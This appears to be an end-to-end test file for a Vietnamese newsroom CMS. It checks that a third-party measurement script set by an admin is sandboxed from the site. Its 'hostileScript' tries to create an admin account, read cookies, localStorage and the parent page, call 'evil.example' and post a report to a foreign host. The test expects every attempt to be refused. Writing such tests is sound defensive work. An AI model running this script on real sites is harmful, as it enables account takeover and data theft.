import type { Browser, BrowserContext, Page } from "playwright-core";
import { expect, test } from "vitest";
import { settingsPath } from "../../src/addresses/newsroom.ts";
import { openStaffedSite } from "./support/staffed-site.ts";
import type { StaffedSite } from "./support/staffed-site.ts";
import { useBrowser } from "./support/use-browser.ts";

let site: StaffedSite;
let browser: Browser;
useBrowser(openStaffedSite, (opened) => ([site, browser] = opened));

const foreign = "https://do.example.gov.vn";

/** What the script from elsewhere saw: for each of its tries "done" or "refused", and the address that it measures. */
type Report = Record<string, string>;

test("a script that counts readers, on a page that an admin opens, reaches nothing of the site", async () => {
  const page = await site.signIn(browser, "quantri");
  await setMeasurementScript(page, `${foreign}/dem.js`);
  const reported = serveHostileScript(page.context());
  await page.goto(`${site.address}/luu-tru`);
  const report = await reported;
  expect(report).toEqual({
    staffList: "refused",
    createPerson: "refused",
    cookies: "refused",
    localStorage: "refused",
    parentPage: "refused",
    parentAddress: "refused",
    otherServer: "refused",
    page: `${site.address}/luu-tru`,
  });
  expect(page.url()).toBe(`${site.address}/luu-tru`);
  expect(await findPeople()).toEqual(["bientap", "quantri", "thebang", "thutrang"]);
});

async function setMeasurementScript(page: Page, script: string): Promise<void> {
  await page.goto(site.address + settingsPath);
  await page.locator("[name=MEASUREMENT_SCRIPT]").fill(script);
  await page.locator("main button[value=review]").click();
  await page.locator("main button[value=save]").click();
  await page.waitForURL(/done=saved/);
}

/** Answers for the foreign server. Resolves with the first report of its script. */
function serveHostileScript(context: BrowserContext): Promise<Report> {
  const reported = Promise.withResolvers<Report>();
  void context.route(`${foreign}/**`, async (route) => {
    const request = route.request();
    if (request.method() === "POST") reported.resolve(JSON.parse(request.postData() ?? ""));
    const body = request.url().endsWith("/dem.js")
      ? `(${hostileScript.toString()})("${foreign}")`
      : "";
    await route.fulfill({ contentType: "text/javascript", body });
  });
  return reported.promise;
}

/** Runs in the browser, as the script that counts readers. */
async function hostileScript(reportTo: string): Promise<void> {
  const read = async (path: string, init?: RequestInit): Promise<void> => {
    const answer = await fetch(path, { credentials: "include", ...init });
    if (!answer.ok || answer.url.includes("dang-nhap")) throw new Error("not let in");
  };
  const newPerson = new URLSearchParams({ username: "ke-gian", name: "Kẻ gian", role: "admin" });
  const tries: Record<string, () => unknown> = {
    staffList: () => read("/toa-soan/quan-tri/nguoi"),
    createPerson: () => read("/toa-soan/quan-tri/nguoi", { method: "POST", body: newPerson }),
    cookies: () => document.cookie,
    localStorage: () => localStorage.length,
    parentPage: () => parent.document.body.textContent,
    parentAddress: () => parent.location.href,
    otherServer: () => fetch("https://evil.example/", { mode: "no-cors" }),
  };
  const report: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      report[name] = "done";
    } catch {
      report[name] = "refused";
    }
  }
  report["page"] = document.referrer;
  await fetch(reportTo, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
}

async function findPeople(): Promise<string[]> {
  const { results } = await site.database
    .prepare("SELECT username FROM people ORDER BY username")
    .all<{ username: string }>();
  return results.map(({ username }) => username);
}
